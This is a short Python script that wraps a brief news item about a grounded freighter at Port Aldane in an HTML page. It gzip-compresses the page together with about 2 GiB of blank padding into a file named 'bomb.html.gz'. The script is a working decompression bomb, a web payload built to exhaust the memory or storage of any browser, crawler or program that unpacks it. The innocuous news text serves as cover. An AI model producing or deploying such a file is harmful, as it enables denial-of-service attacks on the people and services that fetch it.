REPORT = ("The harbour of Port Aldane was closed on Tuesday after a freighter ran aground, the coast guard said. "
          "About 40 sailors were brought ashore. \"Nobody was hurt,\" said Captain Mara Lind, who led the rescue. "
          "Salvage crews expect to move the ship within two days, and ferries were sent to a neighbouring port.")
import zlib
# 2 GiB of blanks in 2 MiB.
deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
block = b" " * (1 << 20)
with open("bomb.html.gz", "wb") as f:
    f.write(deflate.compress(b"<html><body><p>" + REPORT.encode()))
    for _ in range(2048):
        f.write(deflate.compress(block))
    f.write(deflate.flush())
open("report.txt", "w").write(REPORT)
